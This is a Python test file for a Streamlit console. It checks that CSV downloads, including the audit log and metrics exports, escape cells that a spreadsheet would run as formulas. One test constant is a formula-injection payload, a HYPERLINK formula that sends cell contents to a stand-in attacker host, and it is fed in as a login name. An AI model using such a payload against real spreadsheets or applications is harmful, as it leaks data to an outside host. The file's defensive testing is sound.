"""CSV downloads escape cells a spreadsheet would run as formulas (issue 17): a login name
like ``=HYPERLINK(...)``, which anybody can put in the audit log with a failed login, reaches
the Audit CSV as text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from console import csv_export, passwords
from db.engine import engine_for
from tests.console.conftest import insert_metrics

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_cells_starting_a_formula_are_escaped() -> None:
    frame = pd.DataFrame(
        {
            "text": [EVIL, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "plain", "a=b", None],
            "number": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9],
        }
    )
    rows = list(csv.reader(io.StringIO(csv_export.to_csv(frame).decode(), newline="")))
    assert rows[0] == ["text", "number"]
    assert [r[0] for r in rows[1:]] == [
        "'" + EVIL,
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "plain",
        "a=b",
        "",
    ]
    assert rows[1][1] == "-1.5"  # numbers stay numbers
    assert csv_export.escape_cell(datetime(2026, 1, 1, tzinfo=UTC)).year == 2026
    assert csv_export.escape_cell({"k": "=x"}) == "{'k': '=x'}"
    header = pd.DataFrame({"=cmd": [1]})
    assert csv_export.to_csv(header).decode().splitlines()[0] == "'=cmd"


def test_the_audit_csv_has_a_formula_login_name_as_text(
    console_db: str, make_app: Callable[..., AppTest], downloads: dict[str, bytes]
) -> None:
    """Before, the name landed verbatim and a spreadsheet ran it."""
    assert passwords.authenticate(engine_for(console_db), EVIL, "whatever it is") is None
    at = make_app("admin").run()
    at.switch_page("views/audit.py").run()
    assert not at.exception
    rows = list(csv.DictReader(io.StringIO(downloads["audit.csv"].decode())))
    [denied] = [r for r in rows if r["action"] == "login"]
    assert denied["user"] == "'" + EVIL
    assert not any(v.startswith(csv_export.FORMULA_STARTS) for r in rows for v in r.values())


def test_the_metrics_csv_goes_through_the_escaping(
    console_db: str,
    make_app: Callable[..., AppTest],
    downloads: dict[str, bytes],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    insert_metrics(console_db)
    calls: list[int] = []
    original = csv_export.to_csv
    monkeypatch.setattr(csv_export, "to_csv", lambda df: calls.append(len(df)) or original(df))
    at = make_app("analyst").run()
    at.switch_page("views/metrics.py").run()
    assert not at.exception
    assert calls and calls[0] > 0
    [name] = [n for n in downloads if n.startswith("metrics-")]
    assert downloads[name] == original(pd.read_csv(io.BytesIO(downloads[name])))
